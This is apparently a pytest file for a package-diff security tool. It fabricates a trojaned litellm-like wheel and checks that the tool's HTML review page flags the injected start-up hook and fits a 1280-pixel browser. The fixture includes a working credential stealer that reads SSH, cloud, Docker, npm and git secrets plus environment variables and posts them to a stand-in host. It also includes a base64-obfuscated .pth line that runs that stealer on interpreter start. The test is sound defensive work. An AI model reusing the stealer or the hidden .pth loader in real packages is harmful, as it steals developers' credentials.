"""The HTML review page in a real browser: headless Chromium (Debian's `chromium`, driven by
Playwright) loads the report of a litellm-1.82.8-like trojan at 1280 px and nothing runs off the
right edge. Skipped only when no Chromium is installed (`.ci/run` installs it)."""

from __future__ import annotations

import base64
import shutil
from pathlib import Path

import pytest

from interlock.cli import main
from interlock.demo.wheel import wheel_bytes, wheel_filename, write

pytestmark = pytest.mark.slow

VIEWPORT = {"width": 1280, "height": 900}

_PROXY = '''\
"""The proxy server (a stand-in for litellm/proxy/proxy_server.py)."""
import json

ROUTES = {"/health": "ok"}
BANNER = "BANNER_TEXT"


def handle(path):
    return json.dumps(ROUTES.get(path, "not found"))
'''

# What litellm 1.82.8's start-up hook ran, in shape: credentials of many kinds, read and sent out.
_STEALER = """\
import json, os, subprocess, urllib.request
home = os.path.expanduser("~")
loot = {}
for relative in (".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".kube/config", ".docker/config.json",
                 ".env", ".config/gcloud/application_default_credentials.json", ".azure/accessTokens.json",
                 ".npmrc", ".pypirc", ".git-credentials", ".netrc"):
    try:
        with open(os.path.join(home, relative)) as handle:
            loot[relative] = handle.read()
    except OSError:
        pass
loot["env"] = dict(os.environ)
request = urllib.request.Request("https://models.litellm.cloud.invalid/v1/upload", data=json.dumps(loot).encode())
urllib.request.urlopen(request, timeout=5)
"""


def chromium() -> str:
    for candidate in ("/usr/bin/chromium", shutil.which("chromium"), shutil.which("chromium-browser")):
        if candidate and Path(candidate).exists():
            return candidate
    pytest.skip("no Chromium installed (.ci/run installs Debian's chromium package)")


def litellm_like(directory: Path) -> tuple[Path, Path]:
    """litellm 1.82.7 as published before the token was stolen, and 1.82.8 with its .pth."""
    banner = "litellm proxy " + "=" * 400  # one very long line, as generated code has
    genuine = {"litellm/__init__.py": "from litellm.proxy import proxy_server\n"}
    genuine["litellm/proxy/__init__.py"] = ""
    genuine["litellm/proxy/proxy_server.py"] = _PROXY.replace("BANNER_TEXT", banner)
    payload = base64.b64encode(_STEALER.encode()).decode()
    pth = (
        "import os, subprocess, sys; "
        f"subprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('{payload}'))\"])\n"
    )
    trojaned = {**genuine, "litellm_init.pth": pth}
    return (
        write(directory, wheel_filename("litellm", "1.82.7"), wheel_bytes("litellm", "1.82.7", genuine)),
        write(directory, wheel_filename("litellm", "1.82.8"), wheel_bytes("litellm", "1.82.8", trojaned)),
    )


def test_the_review_page_of_a_trojan_fits_a_1280_pixel_window(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    browser_path = chromium()
    from playwright.sync_api import sync_playwright

    old, new = litellm_like(tmp_path / "releases")
    page_path = tmp_path / "review.html"
    assert main(["diff", "--format", "html", "-o", str(page_path), str(old), str(new)]) == 1
    capsys.readouterr()
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=browser_path, args=["--no-sandbox"])
        try:
            page = browser.new_page(viewport=VIEWPORT)
            page.goto(page_path.as_uri())
            scroll_width = page.evaluate("document.documentElement.scrollWidth")
            widest_block = page.evaluate(
                "Math.max(...[...document.querySelectorAll('pre, code, table, p')]"
                ".map(element => element.getBoundingClientRect().right))"
            )
            headlines = page.locator(".place .headline").all_inner_texts()
            folded = page.locator(".place details summary").all_inner_texts()
            screenshot = tmp_path / "review.png"
            page.screenshot(path=str(screenshot), full_page=True)
        finally:
            browser.close()
    assert scroll_width <= VIEWPORT["width"]
    assert widest_block <= VIEWPORT["width"]
    # One headline for the .pth, however many rules fired on its line, and it comes first.
    pth_headlines = [line for line in headlines if "litellm_init.pth:1" in line]
    assert len(pth_headlines) == 1 and headlines[0] == pth_headlines[0]
    assert "new start-up hook" in pth_headlines[0] and pth_headlines[0].startswith("critical")
    assert folded and folded[0].endswith("more findings here")
    assert screenshot.stat().st_size > 10_000 and screenshot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
